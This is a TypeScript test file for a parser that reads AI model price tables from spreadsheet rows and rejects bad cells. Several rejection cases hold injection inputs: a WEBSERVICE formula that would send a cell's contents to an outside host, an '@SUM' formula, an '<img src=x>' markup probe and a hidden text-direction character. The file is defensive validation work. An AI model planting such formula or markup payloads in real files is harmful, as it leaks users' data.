import { compileCatalog } from '../../src/catalog/compileCatalog';
import { PRICE_COLUMNS, USER_COLUMNS } from '../../src/catalog/priceRow';
import { readPriceRows } from '../../src/catalog/readPriceRows';

type Cell = string | number | boolean;

const HEADER = ['model', 'input', 'output'];
const read = (...rows: Cell[][]) => readPriceRows([HEADER, ...rows]);
const priced = (block: readonly (readonly Cell[])[]) => {
  const { rows, rejected } = readPriceRows(block);
  return compileCatalog({ snapshot: { id: 'range', asOf: '2026-11-23', origin: 'range' }, rows, rejected });
};

describe('readPriceRows', () => {
  it('needs only a model and a price, and takes headers in plain words with units', () => {
    expect(
      readPriceRows([
        ['Model', 'Input (USD/1M)', 'Cached input', 'Valid from (UTC)'],
        ['m', 2, '', 46_349],
      ]).rows,
    ).toEqual([{ provider: '', model: 'm', input: 2, valid_from: '2026-11-23' }]);
  });

  it('knows every column of the price table and the user column of every rate', () => {
    const { ignoredColumns } = readPriceRows([[...PRICE_COLUMNS, ...USER_COLUMNS]]);
    expect(ignoredColumns).toEqual([]);
  });

  it('reports columns that it does not know and uses none of them', () => {
    const { rows, ignoredColumns } = readPriceRows([
      ['model', 'input', 'Our margin', '', 'Price'],
      ['m', 2, 0.3, 'x', 9],
    ]);
    expect(ignoredColumns).toEqual(['Our margin', 'Price']);
    expect(rows).toEqual([{ provider: '', model: 'm', input: 2 }]);
  });

  it('skips blank rows and keeps blank apart from 0', () => {
    expect(read(['', '', ''], ['m', 0, ' '], [' ', '', '']).rows).toEqual([{ provider: '', model: 'm', input: 0 }]);
  });

  it.each([
    [
      [
        ['input', 'output'],
        [1, 2],
      ],
      'no column "model"',
    ],
    [
      [
        ['model', 'price'],
        ['m', 2],
      ],
      'names no price',
    ],
    [
      [
        ['model', 'input', 'Input (USD)'],
        ['m', 2, 3],
      ],
      'the column input is there twice',
    ],
    [[['m', 2]], 'no column "model"'],
    [[['']], 'no column "model"'],
  ])('refuses the broken header of %j', (block, reason) => {
    expect(() => readPriceRows(block)).toThrow(reason);
  });

  it.each([
    ['m', -1, 'input is negative (-1)'],
    ['m', '2.5', 'input is text, not a number'],
    ['m', '2,5', 'input is text, not a number'],
    ['m', '$3', 'input is text, not a number'],
    ['m', '#REF!', 'input is text, not a number'],
    ['m', true, 'input is TRUE or FALSE, not a number'],
    ['m', 1_000.01, 'input is 1000.01, above 1000 USD: check its unit'],
    ['m', Infinity, 'input is not a number'],
    ['=WEBSERVICE("https://x/?"&A1)', 1, 'the model name has characters that no model id has'],
    ['@SUM(A1)', 1, 'the model name has characters that no model id has'],
    ['our model', 1, 'the model name has characters that no model id has'],
    [4.1, 1, 'its model is not text: write the name with an apostrophe before it'],
    ['', 1, 'it has no model'],
  ])('rejects %j with input %j and says why', (model, input, reason) => {
    const { rows, rejected } = read(['good', 1, 2], [model, input, 4]);
    expect(rows.map((row) => row.model)).toEqual(['good']);
    expect(rejected).toEqual([{ row: 2, provider: '', model: String(model), reason }]);
  });

  it.each([
    ['ctx_from', 'large', 'ctx_from is text, not a number'],
    ['ctx_from', 0.5, 'ctx_from is 0.5, not a token count'],
    ['ctx_mode', 'cliff', 'ctx_mode is neither request nor marginal'],
    ['hours', 'office hours', 'hours is not like 01:00-04:00;06:00-10:00'],
    ['calendar', 'bank holidays', 'calendar is neither a known calendar nor a list of dates'],
    ['valid_from', '2025-02-30', 'valid_from is not a date'],
    ['valid_to', 7, 'valid_to is not a date'],
    ['multiplier', 0, 'multiplier is 0'],
    ['discount', 10, 'discount is 10; write 10 % as 0.1'],
    ['my_discount', 10, 'my_discount is 10; write 10 % as 0.1'],
    ['my_output', -2, 'my_output is negative (-2)'],
    ['currency', 'euros', 'currency is not a code such as EUR'],
    ['image_each', 'small', 'image_each is neither a number nor a list of name=price'],
    ['web_search_per_1k', 'free', 'web_search_per_1k is text, not a number'],
    ['provider', '<img src=x>', 'the provider has characters that no provider id has'],
    ['aliases', 'a\u202Eb', 'a name holds an invisible character'],
  ])('rejects a row whose %s is %j', (column, cell, reason) => {
    const { rejected } = readPriceRows([
      ['model', 'input', column],
      ['m', 1, cell],
    ]);
    expect(rejected.map((row) => row.reason)).toEqual([reason]);
  });

  it.each(['128k', true, -5, 0, 0.5, 2_000_000_000, 1e300])(
    'leaves a limit of %j blank, which is no number of tokens and decides no price',
    (limit) => {
      const { rows, rejected } = readPriceRows([
        ['model', 'input', 'context_window', 'max_output', 'min_cache_tokens', 'agree'],
        ['m', 1, limit, limit, limit, 46_085],
        ['n', 1, 128_000, 16_384, 1_024, ''],
      ]);
      expect(rejected).toEqual([]);
      expect(rows).toEqual([
        { provider: '', model: 'm', input: 1, agree: '46085' },
        { provider: '', model: 'n', input: 1, context_window: 128_000, max_output: 16_384, min_cache_tokens: 1_024 },
      ]);
    },
  );

  it('reads dates of a workbook that counts from 1904', () => {
    const block = [
      ['model', 'input', 'valid_from'],
      ['m', 1, 44_887],
    ];
    expect(readPriceRows(block, true).rows[0].valid_from).toBe('2026-11-23');
  });
});

describe('a model with a rejected row', () => {
  it('has no price and says why, while the others have theirs', () => {
    const catalog = priced([
      [...HEADER, 'tier'],
      ['m', 1, 2, ''],
      ['m', -1, 2, 'batch'],
      ['other', 3, 4, ''],
    ]);
    expect(() => catalog.find('m').bands('', '', undefined)).toThrow(
      'The price of "m" was not admitted: input is negative (-1).',
    );
    expect(catalog.find('other').bands('', '', undefined).cards[0].usd[0]).toBe(3);
  });

  it('is found by a name outside the grammar as well', () => {
    const catalog = priced([HEADER, ['our model', 1, 2]]);
    expect(() => catalog.find('Our Model').bands('', '', undefined)).toThrow('"our model" was not admitted');
    expect(catalog.models).toEqual([]);
  });

  it('is refused also when rows come in without being read from cells', () => {
    const snapshot = { id: 's', asOf: '2026-11-23', origin: 'embedded' } as const;
    const catalog = compileCatalog({ snapshot, rows: [{ provider: 'p', model: 'm', input: -1 }] });
    expect(() => catalog.find('m').bands('', '', undefined)).toThrow('input is negative (-1)');
  });
});

describe('a row given twice', () => {
  const header = ['provider', 'model', 'tier', 'hours', 'valid_from', 'input', 'output', 'multiplier', 'my_discount'];
  const base = ['acme', 'm', '', '', '', 2, 8, '', ''];
  const batch = ['acme', 'm', 'batch', '', '', '', '', 0.5, ''];
  const twice = (a: Cell[], b: Cell[]) => [header, base, a, ['acme', 'other', '', '', '', 3, 4, '', ''], b];
  const changed = (row: Cell[], column: string, cell: Cell) =>
    row.map((old, index) => (index === header.indexOf(column) ? cell : old));
  const inputOf = (block: Cell[][], tier: string) => priced(block).find('m').bands(tier, '', undefined).cards[0].usd[0];

  it('counts once with the same figures', () => {
    expect(readPriceRows(twice(batch, batch)).rejected).toEqual([]);
    expect(inputOf(twice(batch, batch), 'batch')).toBe(1); // 2 × 0.5
    const discounted = changed(base, 'my_discount', 0.1);
    expect(inputOf([header, discounted, discounted], '')).toBe(1.8); // 2 × 0.9
  });

  it.each([
    ['multiplier', 0.6],
    ['output', 3],
    ['my_discount', 0.1],
  ])('is not believed with another %s, and gives no number', (column, cell) => {
    const block = twice(batch, changed(changed(batch, column, cell), 'tier', ' Batch'));
    const reason = `rows 2 and 4 below the header are the same row with another ${column}`;
    expect(readPriceRows(block).rejected).toEqual([
      { row: 2, provider: 'acme', model: 'm', reason },
      { row: 4, provider: 'acme', model: 'm', reason },
    ]);
    expect(() => inputOf(block, '')).toThrow(`The price of "m" was not admitted: ${reason}.`);
    expect(priced(block).find('other').bands('', '', undefined).cards[0].usd[0]).toBe(3);
  });

  it('is known by what its conditions mean', () => {
    const peak = changed(changed(base, 'hours', '08:00-12:00'), 'input', 4);
    const again = changed(changed(peak, 'hours', '8:00-12:00'), 'input', 5);
    expect(readPriceRows(twice(peak, again)).rejected.map(({ row }) => row)).toEqual([2, 4]);
  });

  it('is another row where its tier, hours or dates differ', () => {
    for (const [column, cell] of [
      ['tier', 'flex'],
      ['hours', '01:00-02:00'],
      ['valid_from', '2026-01-01'],
    ]) {
      const other = changed(changed(batch, column, cell), 'multiplier', 0.6);
      expect(readPriceRows(twice(batch, other)).rejected).toEqual([]);
    }
  });
});
